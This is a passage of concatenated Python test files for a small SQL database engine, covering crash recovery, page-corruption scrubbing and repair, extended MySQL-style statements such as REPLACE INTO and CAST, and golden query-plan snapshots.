        outcome = QueryOutcome(affected_rows=3)
        assert outcome.ok and outcome.rows == []

    def test_error_repr(self):
        outcome = QueryOutcome(error=SQLError("boom"))
        assert not outcome.ok
        assert "boom" in repr(outcome)

    def test_last_error_tracking(self):
        database = Database()
        database.seed("CREATE TABLE t (a INT)")
        conn = Connection(database)
        conn.query("SELECT * FROM nope")
        assert conn.last_error is not None
        conn.query("SELECT * FROM t")
        assert conn.last_error is None
