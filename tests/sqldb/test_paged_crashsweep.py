"""Crash + corruption sweeps over the paged backend, and the scrubber
repair chain exercised source by source (doublewrite, WAL redo,
replica), including the recovery-time rebuild fallback."""

import os

import pytest

from repro.benchlab.crashsweep import (
    format_corruption_result,
    format_paged_sweep_result,
    run_corruption_sweep,
    run_paged_crash_sweep,
    state_digest,
)
from repro.sqldb import pager as pager_mod
from repro.sqldb.engine import Database


def paged_db(tmp_path, name="db", **kwargs):
    kwargs.setdefault("storage", "paged")
    kwargs.setdefault("page_size", 512)
    kwargs.setdefault("pool_pages", 4)
    return Database.recover(str(tmp_path / name), seed=1, **kwargs)


def scrub_full_pass(db):
    """One full scrubber pass via the public tick API; returns new
    corruptions detected."""
    scrubber = db.page_store.scrubber
    pages = max(1, len(scrubber._scan_list))
    ticks = -(-pages // scrubber.pages_per_tick)
    return db.scrub(ticks)


class TestPagedCrashSweep(object):
    def test_kill_at_every_page_write_offset(self, tmp_path):
        result = run_paged_crash_sweep(str(tmp_path), seed=11)
        assert result.ok, format_paged_sweep_result(result)
        # the sweep must have exercised what it claims: crashes at
        # every raw write, torn pages seen and repaired from the
        # doublewrite area, no logical rebuild ever needed
        assert result.kills == result.raw_writes * len(result.offsets)
        assert result.torn_repaired > 0
        assert result.dw_applied >= result.torn_repaired
        assert result.blocked >= 1
        assert result.rebuilds == []

    def test_corruption_sweep_detects_and_repairs_every_flip(
            self, tmp_path):
        result = run_corruption_sweep(str(tmp_path), seed=11, flips=5)
        assert result.ok, format_corruption_result(result)
        assert result.injected == 5
        assert result.detected == 5
        assert result.false_repairs == 0
        assert result.unrepaired == 0
        assert result.digest_ok


class TestScrubRepairChain(object):
    def _seeded(self, tmp_path, rows=40):
        db = paged_db(tmp_path)
        db.run("CREATE TABLE t (id INT PRIMARY KEY, v VARCHAR(20))")
        for i in range(rows):
            db.run("INSERT INTO t (id, v) VALUES (%d, 'row%04d')"
                   % (i, i))
        db.checkpoint()
        return db

    def _corrupt_live_page(self, db, tmp_path, name="db"):
        page_no = sorted(db.tables["t"].pages())[0]
        pager_mod.flip_page_bit(str(tmp_path / name), page_no, 333,
                                page_size=512)
        return page_no

    def test_repair_from_doublewrite(self, tmp_path):
        db = self._seeded(tmp_path)
        golden = state_digest(db)
        self._corrupt_live_page(db, tmp_path)
        assert scrub_full_pass(db) == 1
        stats = db.storage_stats()["scrubber"]
        assert stats["repairs_by_source"].get("doublewrite") == 1
        assert stats["quarantined"] == 0
        assert state_digest(db) == golden
        db.close()

    def test_repair_from_wal_redo_preserves_tail_commits(self, tmp_path):
        """Doublewrite gone, frame dropped: the scrubber must rebuild
        the table from checkpoint rows + the WAL tail — including the
        commits that landed *after* the checkpoint."""
        db = self._seeded(tmp_path)
        db.run("INSERT INTO t (id, v) VALUES (999, 'tail')")
        golden = state_digest(db)
        page_no = self._corrupt_live_page(db, tmp_path)
        # disable source 1 (doublewrite) and source 2 (clean frame)
        with open(pager_mod.doublewrite_path(str(tmp_path / "db")),
                  "r+b") as handle:
            handle.truncate(0)
        db.page_store.pool.drop(page_no)
        assert scrub_full_pass(db) == 1
        stats = db.storage_stats()["scrubber"]
        assert stats["repairs_by_source"].get("wal_redo") == 1
        assert stats["quarantined"] == 0
        assert state_digest(db) == golden
        assert db.run("SELECT v FROM t WHERE id = 999")[0]
        db.close()

    def test_repair_from_registered_replica_source(self, tmp_path):
        """With doublewrite, clean frame and WAL redo all unavailable,
        a registered replica row provider is the last resort."""
        db = self._seeded(tmp_path)
        golden = state_digest(db)
        golden_rows = [dict(row) for row in db.tables["t"].iter_rows()]
        served = []

        def provider(table_name):
            served.append(table_name)
            return golden_rows if table_name == "t" else None

        db.register_page_repair_source(provider)
        page_no = self._corrupt_live_page(db, tmp_path)
        with open(pager_mod.doublewrite_path(str(tmp_path / "db")),
                  "r+b") as handle:
            handle.truncate(0)
        db.page_store.pool.drop(page_no)
        db.page_store.scrubber.redo_source = None
        assert scrub_full_pass(db) == 1
        stats = db.storage_stats()["scrubber"]
        assert stats["repairs_by_source"].get("replica") == 1
        assert served == ["t"]
        assert state_digest(db) == golden
        db.close()

    def test_scrubber_never_rewrites_an_intact_page(self, tmp_path):
        db = self._seeded(tmp_path)
        writes_before = db.page_store.pager.writes
        for _ in range(3):
            scrub_full_pass(db)
        stats = db.storage_stats()["scrubber"]
        assert stats["detected"] == 0
        assert stats["false_repairs"] == 0
        assert db.page_store.pager.writes == writes_before
        db.close()


class TestRecoveryTimeRebuildFallback(object):
    def test_unrepairable_page_rebuilds_the_table_at_recovery(
            self, tmp_path):
        """Corruption found at restart with no doublewrite image to
        apply: verify_scan fails closed and recovery rebuilds the table
        from the checkpoint's logical rows, reporting it."""
        db = paged_db(tmp_path)
        db.run("CREATE TABLE t (id INT PRIMARY KEY, v VARCHAR(20))")
        for i in range(40):
            db.run("INSERT INTO t (id, v) VALUES (%d, 'row%04d')"
                   % (i, i))
        db.checkpoint()
        golden = state_digest(db)
        pages = sorted(db.tables["t"].pages())
        db.close()
        pager_mod.flip_page_bit(str(tmp_path / "db"), pages[0], 333,
                                page_size=512)
        with open(pager_mod.doublewrite_path(str(tmp_path / "db")),
                  "r+b") as handle:
            handle.truncate(0)
        recovered = paged_db(tmp_path)
        report = recovered.recovery_report["pages"]
        assert [entry[0] for entry in report["rebuilt_tables"]] == ["t"]
        assert state_digest(recovered) == golden
        recovered.close()
