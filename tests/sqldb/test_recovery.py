"""Crash-recovery semantics at the engine level.

What ``Database.recover`` promises: committed work survives, aborted
work stays dead, replay is deterministic (``NOW()``/``RAND()``, partial
effects of failed statements, AUTO_INCREMENT continuity), running
recovery twice yields identical state, damage is surfaced honestly, and
the restart invalidates every pre-crash pipeline-cache entry.
"""

import pytest

from repro.benchlab.crashsweep import state_digest
from repro.sqldb import wal
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import WalCorruptionError


SCHEMA = ("CREATE TABLE t (id INT AUTO_INCREMENT PRIMARY KEY, "
          "v VARCHAR(20), stamp DATETIME)")


def _seeded(data_dir, **kwargs):
    db = Database.recover(str(data_dir), **kwargs)
    db.run(SCHEMA)
    db.run("INSERT INTO t (v, stamp) VALUES ('a', NOW())")
    db.run("INSERT INTO t (v, stamp) VALUES ('b', NOW())")
    return db


class TestCommittedPrefix(object):
    def test_committed_rows_survive_rolled_back_rows_do_not(self, tmp_path):
        db = _seeded(tmp_path)
        conn = Connection(db)
        conn.begin()
        conn.query_or_raise("INSERT INTO t (v) VALUES ('committed')")
        conn.commit()
        conn.begin()
        conn.query_or_raise("INSERT INTO t (v) VALUES ('aborted')")
        conn.query_or_raise("DELETE FROM t WHERE v = 'a'")
        conn.rollback()
        live = state_digest(db)
        db.close()
        recovered = Database.recover(str(tmp_path))
        values = [row["v"] for row in recovered.table("t").rows]
        assert values == ["a", "b", "committed"]
        assert state_digest(recovered) == live
        recovered.close()

    def test_unfinished_transaction_is_discarded(self, tmp_path):
        db = _seeded(tmp_path)
        conn = Connection(db)
        live = state_digest(db)
        conn.begin()
        conn.query_or_raise("INSERT INTO t (v) VALUES ('limbo')")
        # crash with the transaction still open: no commit marker
        db.reopen()
        assert state_digest(db) == live
        assert not db.in_transaction
        db.close()

    def test_now_and_rand_replay_bit_identically(self, tmp_path):
        db = _seeded(tmp_path)
        db.run("INSERT INTO t (v) VALUES (RAND() * 1000)")
        stamps = [row["stamp"] for row in db.table("t").rows]
        randoms = [row["v"] for row in db.table("t").rows]
        db.close()
        recovered = Database.recover(str(tmp_path))
        assert [row["stamp"] for row in recovered.table("t").rows] == stamps
        assert [row["v"] for row in recovered.table("t").rows] == randoms
        recovered.close()

    def test_failed_statement_partial_effects_replay(self, tmp_path):
        """A failing multi-row INSERT keeps the rows before the failure
        (MySQL semantics); replay must reproduce exactly that."""
        db = _seeded(tmp_path)
        outcome = Connection(db).query(
            "INSERT INTO t (id, v) VALUES (50, 'keeper'), (50, 'dup')"
        )
        assert not outcome.ok
        live = state_digest(db)
        assert "keeper" in [row["v"] for row in db.table("t").rows]
        db.close()
        recovered = Database.recover(str(tmp_path))
        assert state_digest(recovered) == live
        recovered.close()


class TestIdempotence(object):
    def test_recover_twice_yields_identical_state(self, tmp_path):
        db = _seeded(tmp_path)
        db.begin()
        db.run("INSERT INTO t (v) VALUES ('tx')")
        db.commit()
        db.close()
        first = Database.recover(str(tmp_path))
        digest = state_digest(first)
        first.close()
        second = Database.recover(str(tmp_path))
        assert state_digest(second) == digest
        second.close()

    def test_recover_twice_with_checkpoint_and_tail(self, tmp_path):
        """The checkpoint watermark must make replay skip everything the
        snapshot already holds — even when stale records survive in the
        log — so double recovery cannot double-apply."""
        db = _seeded(tmp_path)
        assert db.checkpoint() is not None
        db.run("INSERT INTO t (v) VALUES ('after-checkpoint')")
        digest = state_digest(db)
        db.close()
        for _ in range(2):
            recovered = Database.recover(str(tmp_path))
            assert state_digest(recovered) == digest
            report = recovered.recovery_report
            assert report["checkpoint_lsn"] > 0
            assert report["replayed_statements"] == 1
            recovered.close()


class TestCorruption(object):
    def _damage_mid_log(self, data_dir):
        path = wal.log_path(str(data_dir))
        data = bytearray(wal.read_log_bytes(path))
        ends = [end for _r, end in wal.iter_frames(bytes(data))]
        assert len(ends) >= 3
        data[ends[1] + 10] ^= 0x20  # payload byte of the THIRD record
        wal.write_log_bytes(path, bytes(data))
        return ends

    def test_strict_recover_raises_with_clean_prefix_attached(self, tmp_path):
        db = _seeded(tmp_path)
        db.run("INSERT INTO t (v) VALUES ('tail')")
        db.close()
        self._damage_mid_log(tmp_path)
        with pytest.raises(WalCorruptionError) as info:
            Database.recover(str(tmp_path))
        exc = info.value
        assert exc.database is not None
        # the clean prefix: schema + first insert, nothing at or past
        # the damaged record
        assert [row["v"] for row in exc.database.table("t").rows] == ["a"]
        assert exc.database.recovery_report["corrupt"] is True

    def test_salvage_mode_truncates_and_returns_clean_prefix(self, tmp_path):
        db = _seeded(tmp_path)
        db.run("INSERT INTO t (v) VALUES ('tail')")
        db.close()
        self._damage_mid_log(tmp_path)
        salvaged = Database.recover(str(tmp_path), strict=False)
        assert [row["v"] for row in salvaged.table("t").rows] == ["a"]
        salvaged.close()
        # the damage is gone from disk: strict recovery now succeeds
        again = Database.recover(str(tmp_path))
        assert [row["v"] for row in again.table("t").rows] == ["a"]
        assert again.recovery_report["corrupt"] is False
        again.close()


class TestPipelineCacheInvalidation(object):
    def test_restart_clears_cache_and_advances_schema_version(self, tmp_path):
        db = _seeded(tmp_path)
        conn = Connection(db)
        for _ in range(3):
            conn.query_or_raise("SELECT * FROM t WHERE id = 1")
        assert len(db.pipeline_cache) >= 1
        version_before = db.schema_version
        db.reopen()
        assert len(db.pipeline_cache) == 0
        # strictly advances: a pre-crash cache key may never validate
        # against the recovered catalog, even by coincidence
        assert db.schema_version > version_before
        # and the pipeline still works + re-warms afterwards
        outcome = conn.query("SELECT * FROM t WHERE id = 1")
        assert outcome.ok
        assert outcome.result_set.rows_as_dicts()[0]["v"] == "a"
        conn.query_or_raise("SELECT * FROM t WHERE id = 1")
        assert len(db.pipeline_cache) >= 1
        db.close()


class TestAutoIncrementRollback(object):
    def test_counter_restored_by_rollback_and_preserved_by_recovery(
            self, tmp_path):
        db = _seeded(tmp_path)  # ids 1, 2
        db.begin()
        db.run("INSERT INTO t (v) VALUES ('ghost')")  # would take id 3
        db.rollback()
        db.run("INSERT INTO t (v) VALUES ('c')")
        ids = [row["id"] for row in db.table("t").rows]
        assert ids == [1, 2, 3]  # the rollback returned id 3 to the pool
        db.close()
        recovered = Database.recover(str(tmp_path))
        assert [row["id"] for row in recovered.table("t").rows] == [1, 2, 3]
        # the counter itself recovered, not just the rows: the next
        # insert continues the sequence instead of colliding
        recovered.run("INSERT INTO t (v) VALUES ('d')")
        assert [row["id"] for row in recovered.table("t").rows] == [1, 2, 3, 4]
        recovered.close()


class TestSchemaRollback(object):
    def test_ddl_inside_transaction_rolls_back_and_recovers(self, tmp_path):
        """ALTER/CREATE INDEX inside a rolled-back transaction must
        leave no trace — live or after recovery."""
        db = _seeded(tmp_path)
        columns_before = [c.name for c in db.table("t").columns]
        db.begin()
        db.run("ALTER TABLE t ADD COLUMN extra INT DEFAULT 0")
        db.run("CREATE INDEX idx_v ON t (v)")
        assert "extra" in [c.name for c in db.table("t").columns]
        version_mid = db.schema_version
        db.rollback()
        assert [c.name for c in db.table("t").columns] == columns_before
        assert "idx_v" not in db.table("t").indexes
        # the un-ALTER is itself a catalog change: cached validations of
        # the widened table must stop matching
        assert db.schema_version > version_mid
        live = state_digest(db)
        db.close()
        recovered = Database.recover(str(tmp_path))
        assert state_digest(recovered) == live
        assert "extra" not in [c.name for c in recovered.table("t").columns]
        recovered.close()
