"""Tests for the extended SQL surface: REPLACE INTO, ON DUPLICATE KEY
UPDATE, derived tables, CAST/CONVERT."""

import pytest

from repro.sqldb import ast_nodes as ast
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.items import ItemKind
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


@pytest.fixture
def kv():
    database = Database()
    database.seed(
        """
        CREATE TABLE kv (
            k VARCHAR(20) PRIMARY KEY,
            v INT,
            hits INT DEFAULT 0
        );
        INSERT INTO kv (k, v, hits) VALUES ('a', 1, 10), ('b', 2, 20);
        """
    )
    return database, Connection(database)


class TestReplaceInto(object):
    def test_parse(self):
        stmt = parse_one("REPLACE INTO t (a) VALUES (1)")
        assert isinstance(stmt, ast.Insert) and stmt.replace

    def test_replace_new_row_inserts(self, kv):
        database, conn = kv
        outcome = conn.query("REPLACE INTO kv (k, v) VALUES ('c', 3)")
        assert outcome.ok and outcome.affected_rows == 1
        assert len(database.table("kv")) == 3

    def test_replace_existing_row_swaps(self, kv):
        database, conn = kv
        outcome = conn.query("REPLACE INTO kv (k, v) VALUES ('a', 99)")
        assert outcome.ok
        assert outcome.affected_rows == 2   # MySQL: delete + insert
        rows = {r["k"]: r for r in database.table("kv").rows}
        assert rows["a"]["v"] == 99
        assert rows["a"]["hits"] == 0       # defaults, not the old row's

    def test_replace_stack_kind(self, kv):
        database, _ = kv
        stack = validate(
            parse_one("REPLACE INTO kv (k, v) VALUES ('a', 1)"),
            database.tables,
        )
        assert stack[0].kind == ItemKind.REPLACE_TABLE

    def test_replace_differs_from_insert_model(self, kv):
        """SEPTIC must distinguish INSERT from REPLACE at the same table
        (an attacker rewriting one into the other changes the model)."""
        database, _ = kv
        insert_stack = validate(
            parse_one("INSERT INTO kv (k, v) VALUES ('a', 1)"),
            database.tables,
        )
        replace_stack = validate(
            parse_one("REPLACE INTO kv (k, v) VALUES ('a', 1)"),
            database.tables,
        )
        assert insert_stack[0] != replace_stack[0]


class TestOnDuplicateKeyUpdate(object):
    def test_parse(self):
        stmt = parse_one(
            "INSERT INTO t (a) VALUES (1) "
            "ON DUPLICATE KEY UPDATE b = b + 1"
        )
        assert len(stmt.on_duplicate) == 1

    def test_no_conflict_inserts(self, kv):
        database, conn = kv
        outcome = conn.query(
            "INSERT INTO kv (k, v) VALUES ('z', 9) "
            "ON DUPLICATE KEY UPDATE v = 0"
        )
        assert outcome.affected_rows == 1
        assert len(database.table("kv")) == 3

    def test_conflict_updates(self, kv):
        database, conn = kv
        outcome = conn.query(
            "INSERT INTO kv (k, v) VALUES ('a', 5) "
            "ON DUPLICATE KEY UPDATE hits = hits + 1"
        )
        assert outcome.affected_rows == 2   # MySQL's convention
        rows = {r["k"]: r for r in database.table("kv").rows}
        assert rows["a"]["hits"] == 11
        assert rows["a"]["v"] == 1          # untouched column

    def test_values_function(self, kv):
        database, conn = kv
        conn.query(
            "INSERT INTO kv (k, v) VALUES ('a', 123) "
            "ON DUPLICATE KEY UPDATE v = VALUES(v)"
        )
        rows = {r["k"]: r for r in database.table("kv").rows}
        assert rows["a"]["v"] == 123

    def test_odku_stack_includes_update_fields(self, kv):
        database, _ = kv
        stack = validate(
            parse_one("INSERT INTO kv (k, v) VALUES ('a', 1) "
                      "ON DUPLICATE KEY UPDATE hits = hits + 1"),
            database.tables,
        )
        assert any(item.kind == ItemKind.UPDATE_FIELD for item in stack)

    def test_insert_set_form_with_odku(self, kv):
        database, conn = kv
        outcome = conn.query(
            "INSERT INTO kv SET k = 'a', v = 7 "
            "ON DUPLICATE KEY UPDATE v = 7"
        )
        assert outcome.ok
        rows = {r["k"]: r for r in database.table("kv").rows}
        assert rows["a"]["v"] == 7


class TestDerivedTables(object):
    def test_parse_requires_alias(self):
        with pytest.raises(Exception):
            parse_one("SELECT * FROM (SELECT 1)")

    def test_basic(self, kv):
        _, conn = kv
        outcome = conn.query(
            "SELECT total FROM (SELECT SUM(v) AS total FROM kv) sums"
        )
        assert outcome.rows == [(3,)]

    def test_filter_over_derived(self, kv):
        _, conn = kv
        outcome = conn.query(
            "SELECT d.k FROM (SELECT k, v * 10 AS score FROM kv) AS d "
            "WHERE d.score > 15"
        )
        assert outcome.rows == [("b",)]

    def test_join_with_real_table(self, kv):
        _, conn = kv
        outcome = conn.query(
            "SELECT kv.k, m.mx FROM kv "
            "JOIN (SELECT MAX(v) AS mx FROM kv) m ON kv.v = m.mx"
        )
        assert outcome.rows == [("b", 2)]

    def test_stack_contains_subselect_markers(self, kv):
        database, _ = kv
        stack = validate(
            parse_one("SELECT total FROM (SELECT SUM(v) AS total "
                      "FROM kv) sums"),
            database.tables,
        )
        kinds = [item.kind for item in stack]
        assert ItemKind.SUBSELECT_ITEM in kinds


class TestCast(object):
    def test_parse_cast(self):
        expr = parse_one("SELECT CAST(a AS SIGNED) FROM t").fields[0].expr
        assert isinstance(expr, ast.Cast)
        assert expr.type_name == "SIGNED"

    def test_parse_convert(self):
        expr = parse_one("SELECT CONVERT(a, CHAR) FROM t").fields[0].expr
        assert isinstance(expr, ast.Cast) and expr.type_name == "CHAR"

    def test_cast_signed(self, kv):
        _, conn = kv
        assert conn.query(
            "SELECT CAST('12abc' AS SIGNED)"
        ).result_set.scalar() == 12

    def test_cast_unsigned_wraps(self, kv):
        _, conn = kv
        assert conn.query(
            "SELECT CAST(-1 AS UNSIGNED)"
        ).result_set.scalar() == (1 << 64) - 1

    def test_cast_char(self, kv):
        _, conn = kv
        assert conn.query(
            "SELECT CAST(42 AS CHAR)"
        ).result_set.scalar() == "42"

    def test_cast_null(self, kv):
        _, conn = kv
        assert conn.query(
            "SELECT CAST(NULL AS SIGNED)"
        ).result_set.scalar() is None

    def test_cast_with_length(self, kv):
        _, conn = kv
        assert conn.query(
            "SELECT CAST(42 AS CHAR(10))"
        ).result_set.scalar() == "42"

    def test_cast_in_stack(self):
        stack = validate(parse_one("SELECT CAST(a AS SIGNED) FROM t"))
        assert any(
            item.kind == ItemKind.FUNC_ITEM and item.value == "CAST SIGNED"
            for item in stack
        )

    def test_left_right_functions_still_work(self, kv):
        # LEFT/RIGHT became keywords (joins) but stay callable
        _, conn = kv
        outcome = conn.query("SELECT LEFT('hello', 2), RIGHT('hello', 2)")
        assert outcome.rows == [("he", "lo")]


class TestAlterTruncate(object):
    def test_alter_add_column(self, kv):
        database, conn = kv
        outcome = conn.query(
            "ALTER TABLE kv ADD COLUMN note VARCHAR(20) DEFAULT 'n/a'"
        )
        assert outcome.ok
        assert database.table("kv").has_column("note")
        got = conn.query("SELECT note FROM kv WHERE k = 'a'")
        assert got.rows == [("n/a",)]

    def test_alter_add_not_null_backfills(self, kv):
        database, conn = kv
        conn.query_or_raise("ALTER TABLE kv ADD score INT NOT NULL")
        got = conn.query("SELECT score FROM kv WHERE k = 'a'")
        assert got.rows == [(0,)]

    def test_alter_add_duplicate_column(self, kv):
        _, conn = kv
        outcome = conn.query("ALTER TABLE kv ADD v INT")
        assert not outcome.ok and outcome.error.errno == 1060

    def test_alter_drop_column(self, kv):
        database, conn = kv
        conn.query_or_raise("ALTER TABLE kv DROP COLUMN hits")
        assert not database.table("kv").has_column("hits")
        assert not conn.query("SELECT hits FROM kv").ok
        assert conn.query("SELECT v FROM kv").ok

    def test_alter_drop_missing_column(self, kv):
        _, conn = kv
        outcome = conn.query("ALTER TABLE kv DROP COLUMN nope")
        assert not outcome.ok and outcome.error.errno == 1091

    def test_new_column_usable_in_dml(self, kv):
        _, conn = kv
        conn.query_or_raise("ALTER TABLE kv ADD note TEXT")
        conn.query_or_raise("UPDATE kv SET note = 'hello' WHERE k = 'a'")
        got = conn.query("SELECT note FROM kv WHERE k = 'a'")
        assert got.rows == [("hello",)]

    def test_truncate(self, kv):
        database, conn = kv
        outcome = conn.query("TRUNCATE TABLE kv")
        assert outcome.ok and outcome.affected_rows == 2
        assert len(database.table("kv")) == 0

    def test_truncate_resets_auto_increment(self):
        from repro.sqldb.engine import Database
        from repro.sqldb.connection import Connection

        database = Database()
        database.seed(
            "CREATE TABLE s (id INT PRIMARY KEY AUTO_INCREMENT, x INT);"
            "INSERT INTO s (x) VALUES (1), (2);"
        )
        conn = Connection(database)
        conn.query_or_raise("TRUNCATE s")
        conn.query_or_raise("INSERT INTO s (x) VALUES (9)")
        assert conn.last_insert_id == 1

    def test_truncate_missing_table(self, kv):
        _, conn = kv
        assert not conn.query("TRUNCATE TABLE nope").ok
