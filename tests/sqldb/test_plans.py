"""Golden-plan suite for the plan/execute split.

Each test plans a query through :class:`repro.sqldb.planner.Planner`
and snapshots the physical operator tree (``render_tree``).  The
goldens pin the access-path and join-strategy decisions — an
accidental planner regression (index lookup degrading to a scan, hash
join degrading to nested loops) changes a tree shape and fails here
long before it would show up as a benchmark slowdown.

Also covered: EXPLAIN rendered from the tree (including UNION branches
and derived-table subqueries), the streaming early-exit property of
LIMIT-without-ORDER-BY, the ``peak_materialized_rows`` counter, and a
source-level pin that the executor no longer owns planning decisions.
"""

import os

import pytest

from repro.sqldb import plan as plan_mod
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.parser import parse_one


@pytest.fixture
def shop():
    """Products/orders with a secondary index, known contents."""
    database = Database()
    database.seed(
        """
        CREATE TABLE products (
            id INT PRIMARY KEY AUTO_INCREMENT,
            name VARCHAR(40) NOT NULL,
            price FLOAT,
            category VARCHAR(20)
        );
        CREATE TABLE orders (
            id INT PRIMARY KEY AUTO_INCREMENT,
            product_id INT,
            quantity INT
        );
        CREATE INDEX idx_cat ON products (category);
        INSERT INTO products (name, price, category) VALUES
            ('apple', 1.0, 'fruit'),
            ('banana', 0.5, 'fruit'),
            ('carrot', 0.3, 'veg'),
            ('donut', 2.0, NULL);
        INSERT INTO orders (product_id, quantity) VALUES
            (1, 3), (1, 2), (2, 10), (99, 1);
        """
    )
    return database


def tree(database, sql):
    prepared = database._executor.prepare(parse_one(sql))
    return plan_mod.render_tree(prepared)


def rows(database, sql):
    outcome = Connection(database).query(sql)
    if not outcome.ok:
        raise outcome.error
    return outcome.result_set.rows


#: (sql, expected operator tree) — the golden plans
GOLDEN_PLANS = [
    ("SELECT * FROM products",
     "Project(id, name, price, category)\n"
     "  SeqScan(products)"),
    ("SELECT name FROM products WHERE category = 'fruit'",
     "Project(name)\n"
     "  Filter(where)\n"
     "    IndexEqScan(products.category = 'fruit')"),
    ("SELECT name FROM products WHERE id = 2",
     "Project(name)\n"
     "  Filter(where)\n"
     "    IndexEqScan(products.id = 2)"),
    ("SELECT name FROM products WHERE id > 1",
     "Project(name)\n"
     "  Filter(where)\n"
     "    IndexRangeScan(products.id > 1)"),
    ("SELECT p.name, o.quantity FROM products p "
     "JOIN orders o ON p.id = o.product_id",
     "Project(name, quantity)\n"
     "  HashJoin(INNER p.id = o.product_id)\n"
     "    SeqScan(products AS p)\n"
     "    SeqScan(orders AS o)"),
    ("SELECT p.name, o.quantity FROM products p "
     "JOIN orders o ON p.id > o.product_id",
     "Project(name, quantity)\n"
     "  NestedLoopJoin(INNER)\n"
     "    SeqScan(products AS p)\n"
     "    SeqScan(orders AS o)"),
    ("SELECT p.name, o.quantity FROM products p, orders o",
     "Project(name, quantity)\n"
     "  NestedLoopJoin(CROSS)\n"
     "    SeqScan(products AS p)\n"
     "    SeqScan(orders AS o)"),
    ("SELECT category, COUNT(*) FROM products "
     "GROUP BY category HAVING COUNT(*) > 1",
     "Project(category, count(...))\n"
     "  Filter(having)\n"
     "    Aggregate(group_by=1, aggs=2)\n"
     "      SeqScan(products)"),
    ("SELECT name FROM products ORDER BY price",
     "Sort(1 keys)\n"
     "  Project(name)\n"
     "    SeqScan(products)"),
    ("SELECT name FROM products ORDER BY price LIMIT 2",
     "Limit\n"
     "  TopK(1 keys)\n"
     "    Project(name)\n"
     "      SeqScan(products)"),
    ("SELECT name FROM products LIMIT 2",
     "Limit\n"
     "  Project(name)\n"
     "    SeqScan(products)"),
    ("SELECT DISTINCT category FROM products",
     "Distinct\n"
     "  Project(category)\n"
     "    SeqScan(products)"),
    ("SELECT name FROM products WHERE category = 'veg' "
     "UNION SELECT name FROM products WHERE id = 1",
     "Union(1 branches)\n"
     "  Project(name)\n"
     "    Filter(where)\n"
     "      IndexEqScan(products.category = 'veg')\n"
     "  Project(name)\n"
     "    Filter(where)\n"
     "      IndexEqScan(products.id = 1)"),
    ("SELECT t.name FROM (SELECT name, price FROM products "
     "WHERE price > 0.4) t WHERE t.price < 1.5",
     "Project(name)\n"
     "  Filter(where)\n"
     "    Derived(t)\n"
     "      Project(name, price)\n"
     "        Filter(where)\n"
     "          SeqScan(products)"),
    ("INSERT INTO orders (product_id, quantity) VALUES (3, 7)",
     "InsertSink(orders)"),
    ("UPDATE products SET price = 9 WHERE id = 4",
     "UpdateSink(products)\n"
     "  Filter(where)\n"
     "    SeqScan(products)"),
    ("DELETE FROM orders WHERE quantity = 1",
     "DeleteSink(orders)\n"
     "  Filter(where)\n"
     "    SeqScan(orders)"),
]


@pytest.mark.parametrize(
    "sql,expected", GOLDEN_PLANS, ids=[sql for sql, _ in GOLDEN_PLANS])
def test_golden_plan(shop, sql, expected):
    assert tree(shop, sql) == expected


class TestPlanMetadata(object):
    def test_plan_tables_cover_every_base_table(self, shop):
        prepared = shop._executor.prepare(parse_one(
            "SELECT p.name FROM products p JOIN orders o "
            "ON p.id = o.product_id"))
        assert prepared.tables == frozenset(["products", "orders"])

    def test_derived_table_contributes_inner_tables(self, shop):
        prepared = shop._executor.prepare(parse_one(
            "SELECT t.name FROM (SELECT name FROM products) t"))
        assert prepared.tables == frozenset(["products"])

    def test_hash_join_disabled_falls_back_to_nested_loop(self, shop):
        shop._executor.enable_hash_join = False
        got = tree(shop, "SELECT p.name FROM products p "
                         "JOIN orders o ON p.id = o.product_id")
        assert "NestedLoopJoin(INNER)" in got
        assert "HashJoin" not in got

    def test_topk_disabled_falls_back_to_full_sort(self, shop):
        shop._executor.enable_topk = False
        got = tree(shop, "SELECT name FROM products ORDER BY price LIMIT 2")
        assert "Sort(1 keys)" in got
        assert "TopK" not in got

    def test_plan_cache_respects_toggle_fingerprint(self, shop):
        conn = Connection(shop)
        sql = "SELECT name FROM products ORDER BY price LIMIT 2"
        assert [r[0] for r in rows(shop, sql)] == ["carrot", "banana"]
        before = shop._executor.plan_stats["topk_orders"]
        shop._executor.enable_topk = False
        assert [r[0] for r in rows(shop, sql)] == ["carrot", "banana"]
        stats = shop._executor.plan_stats
        assert stats["topk_orders"] == before  # replanned without TopK
        assert stats["full_sorts"] >= 1
        del conn


class TestExplainFromTree(object):
    def test_explain_single_table_index(self, shop):
        got = rows(shop, "EXPLAIN SELECT name FROM products "
                         "WHERE category = 'fruit'")
        assert got == [("products", "ref", "category", 4)]

    def test_explain_hash_join(self, shop):
        got = rows(shop, "EXPLAIN SELECT p.name FROM products p "
                         "JOIN orders o ON p.id = o.product_id")
        assert got == [("products", "ALL", None, 4),
                       ("orders", "hash", "product_id", 4)]

    def test_explain_union_lists_every_branch(self, shop):
        got = rows(shop, "EXPLAIN SELECT name FROM products WHERE id = 1 "
                         "UNION SELECT name FROM products WHERE id > 2")
        assert got == [("products", "ref", "id", 4),
                       ("products", "range", "id", 4)]

    def test_explain_derived_table_shows_inner_sources(self, shop):
        got = rows(shop, "EXPLAIN SELECT t.name FROM "
                         "(SELECT name FROM products WHERE id > 1) t")
        assert got == [("t", "DERIVED", None, None),
                       ("products", "range", "id", 4)]

    def test_explain_row_counts_are_live(self, shop):
        conn = Connection(shop)
        rows(shop, "EXPLAIN SELECT name FROM products")
        assert conn.query("INSERT INTO products (name) VALUES ('egg')").ok
        got = rows(shop, "EXPLAIN SELECT name FROM products")
        assert got == [("products", "ALL", None, 5)]


@pytest.fixture
def big():
    """One 500-row table, for streaming-behaviour assertions."""
    database = Database()
    database.seed(
        "CREATE TABLE events (id INT PRIMARY KEY AUTO_INCREMENT, val INT);")
    conn = Connection(database)
    for start in range(0, 500, 50):
        values = ", ".join(
            "(%d)" % (i * 7 % 501) for i in range(start, start + 50))
        outcome = conn.query("INSERT INTO events (val) VALUES %s" % values)
        assert outcome.ok
    return database


class TestStreamingExecution(object):
    def test_limit_stops_the_scan_early(self, big):
        """Satellite (a): LIMIT n without ORDER BY must not scan the
        whole table — the scan's rows-out stays within a small constant
        factor of n."""
        got = rows(big, "SELECT id FROM events LIMIT 5")
        assert len(got) == 5
        stats = big._executor.last_stage_stats
        scans = stats.find("seq_scan")
        assert scans, "expected a SeqScan in the executed plan"
